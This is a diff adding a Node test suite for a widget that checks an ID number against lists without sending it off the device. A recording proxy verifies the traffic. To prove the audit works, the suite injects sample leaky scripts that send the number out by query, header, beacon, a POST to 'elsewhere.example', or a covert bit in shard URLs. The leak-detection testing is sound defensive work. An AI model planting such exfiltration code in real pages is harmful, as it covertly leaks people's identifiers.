@@ -1,0 +1,175 @@
+//! No raw identifier leaves the device, and of its key no more than the prefix: read from the wire, byte by byte.
+
+import assert from "node:assert/strict";
+import { after, before, describe, test } from "node:test";
+
+import { audit } from "./support/audit.mjs";
+import { openBrowser } from "./support/browser.mjs";
+import { withPermittedScript } from "./support/changed-page.mjs";
+import { deriveKey, prefixOf, shardPath } from "./support/key.mjs";
+import { AFTERWARDS, observedCheck } from "./support/observed-check.mjs";
+import { openRecordingProxy } from "./support/recording-proxy.mjs";
+import { Resources } from "./support/resources.mjs";
+import { CHEAP_ARGON2, DEFAULT_ARGON2, makeSite, niks, PREFIX_BITS, SHARDED, WHOLE } from "./support/site.mjs";
+import { Widget } from "./support/widget.mjs";
+
+const resources = new Resources();
+let proxy;
+let widget;
+
+before(async () => {
+  proxy = await openRecordingProxy(resources);
+  widget = new Widget(await openBrowser(resources, { proxy: proxy.port }));
+});
+after(() => resources.close());
+
+const PEOPLE = {
+  "in both lists": { nik: niks.both[0], answers: { [WHOLE]: "member", [SHARDED]: "member" } },
+  "in the whole list": { nik: niks.whole[0], answers: { [WHOLE]: "member", [SHARDED]: "non_member" } },
+  "in the list in pieces": { nik: niks.sharded[0], answers: { [WHOLE]: "non_member", [SHARDED]: "member" } },
+  "in no list": { nik: niks.none[0], answers: { [WHOLE]: "non_member", [SHARDED]: "non_member" } },
+};
+
+/** All the requests of a visit. */
+function expectedRequests(site, address, key, pages) {
+  const shards = site.catalogue.datasets.map((dataset) => shardPath(dataset, key));
+  return requests(address, [...pages, "catalogue.json", ...shards, ...AFTERWARDS]);
+}
+
+const requests = (address, paths) => paths.map((path) => `GET ${address}${path}`);
+
+const VISITS = {
+  "in the page of its own, with default Argon2id": { open: "open", pages: ["cek-nik.html"], argon2: DEFAULT_ARGON2 },
+  "in the frame, with cheap Argon2id": { open: "openInFrame", pages: ["", "cek-nik.html"], argon2: CHEAP_ARGON2 },
+};
+
+for (const [where, { open, pages, argon2 }] of Object.entries(VISITS)) {
+  describe(`a check ${where}`, () => {
+    let site;
+    let address;
+    before(async () => {
+      site = await makeSite(resources, { argon2 });
+      address = await site.serve();
+    });
+
+    for (const [who, { nik, answers }] of Object.entries(PEOPLE)) {
+      test(who, async () => {
+        const key = deriveKey(site.catalogue, nik);
+        const seen = await observedCheck({ widget, proxy, address, nik, open });
+        assert.deepEqual(seen.answers, answers);
+        assert.deepEqual(seen.after, seen.before, "something was left on the device");
+        assert.deepEqual(seen.early, requests(address, pages), "what was sent before the click");
+        assert.deepEqual(audit(proxy, expectedRequests(site, address, key, pages), { nik, key }), []);
+      });
+    }
+  });
+}
+
+describe("two numbers with the same prefix, one in the list and one not,", () => {
+  let site;
+  let member;
+  let other;
+  before(async () => {
+    site = await makeSite(resources);
+    [member, other] = samePrefix(site);
+  });
+
+  const visit = async (address, nik) => {
+    const { answers } = await observedCheck({ widget, proxy, address, nik });
+    return { answer: answers[SHARDED], sent: proxy.requests.map(({ bytes }) => bytes.toString("latin1")) };
+  };
+
+  test("send the same bytes", async () => {
+    const address = await site.serve();
+    const [one, two] = [await visit(address, member), await visit(address, other)];
+    assert.deepEqual([one.answer, two.answer], ["member", "non_member"]);
+    assert.ok(one.sent.length > 0, "the proxy saw nothing");
+    assert.deepEqual(one.sent, two.sent);
+  });
+
+  test("do not where a page tells the answer by one request more", async () => {
+    const address = await leaky(site, TELLS_THE_ANSWER);
+    const [one, two] = [await visit(address, member), await visit(address, other)];
+    assert.notDeepEqual(one.sent, two.sent);
+  });
+});
+
+/** What a page would do that is not ours. Each gives away the number, or one bit. */
+const QUERY = `
+  document.getElementById("check").addEventListener("click", () => {
+    fetch("catalogue.json?visitor=" + document.getElementById("nik").value);
+  })`;
+const HEADER = `
+  document.getElementById("check").addEventListener("click", () => {
+    fetch("catalogue.json", { headers: { "X-Visitor": btoa("visitor " + document.getElementById("nik").value) } });
+  })`;
+const BODY_ELSEWHERE = `
+  document.getElementById("check").addEventListener("click", () => {
+    const number = BigInt(document.getElementById("nik").value);
+    fetch("http://elsewhere.example/", { method: "POST", body: "v=" + number.toString(16) });
+  })`;
+const BEACON_ON_LEAVING = `
+  let typed = "";
+  document.getElementById("nik").addEventListener("input", (event) => { typed = event.target.value; });
+  addEventListener("pagehide", () => navigator.sendBeacon("catalogue.json", [...typed].reverse().join("-")))`;
+const ONE_BIT = `
+  {
+    const inWorker = \`
+      let bit;
+      addEventListener("message", ({ data }) => { if (data.nik) bit = data.nik.slice(-1) & 1; });
+      const honest = fetch;
+      fetch = (request) => honest(request.url.endsWith(".cnk") ? new Request(request.url + "?" + bit, request) : request);\`;
+    const HonestBlob = Blob;
+    Blob = function (parts, options) { return new HonestBlob([inWorker, ...parts], options); };
+  }`;
+const TELLS_THE_ANSWER = `
+  new MutationObserver((_, observer) => {
+    if (document.querySelector('[data-dataset="${SHARDED}"][data-outcome=member]')) {
+      observer.disconnect();
+      fetch("catalogue.json");
+    }
+  }).observe(document.getElementById("answers"), { childList: true })`;
+
+/** Serves a copy of the site whose widget has been changed by somebody who may. */
+async function leaky(site, code) {
+  const copy = await site.copy();
+  await copy.write("cek-nik.html", withPermittedScript((await copy.read("cek-nik.html")).toString(), code));
+  return copy.serve();
+}
+
+describe("a page that leaks is caught", () => {
+  let site;
+  before(async () => {
+    site = await makeSite(resources);
+  });
+
+  const LEAKS = {
+    "the number in a query": [QUERY, /^eight or more digits of the number$/],
+    "the number in base64 in a header": [HEADER, /^eight or more digits of the number, in base64$/],
+    "the number in hexadecimal in a body, to another host": [BODY_ELSEWHERE, /^the number in hexadecimal$/],
+    "the number reversed, in a beacon when the page is left": [BEACON_ON_LEAVING, /^eight or more digits of the number, reversed$/],
+    "one bit, in the address of a shard": [ONE_BIT, /^requests: .*\.cnk\?[01]/],
+    "the answer, by one request more": [TELLS_THE_ANSWER, /^requests: .*catalogue\.json .*\.cnk .*catalogue\.json .*; expected/],
+  };
+
+  for (const [name, [code, finding]] of Object.entries(LEAKS)) {
+    test(name, async () => {
+      const [nik] = niks.both;
+      const key = deriveKey(site.catalogue, nik);
+      const address = await leaky(site, code);
+      const { answers } = await observedCheck({ widget, proxy, address, nik });
+      assert.deepEqual(answers, PEOPLE["in both lists"].answers, "the changed page no longer works");
+      const findings = audit(proxy, expectedRequests(site, address, key, ["cek-nik.html"]), { nik, key });
+      assert.ok(findings.some((text) => finding.test(text)), `the audit found only: ${findings.join("; ") || "nothing"}`);
+    });
+  }
+});
+
+/** A number of the list in pieces and one of no list that share their prefix. */
+function samePrefix({ catalogue }) {
+  const prefix = (nik) => prefixOf(deriveKey(catalogue, nik), PREFIX_BITS);
+  const members = new Map(niks.sharded.map((nik) => [prefix(nik), nik]));
+  const other = niks.none.find((nik) => members.has(prefix(nik)));
+  assert.ok(other, "no two of the made-up numbers share a prefix");
+  return [members.get(prefix(other)), other];
+}
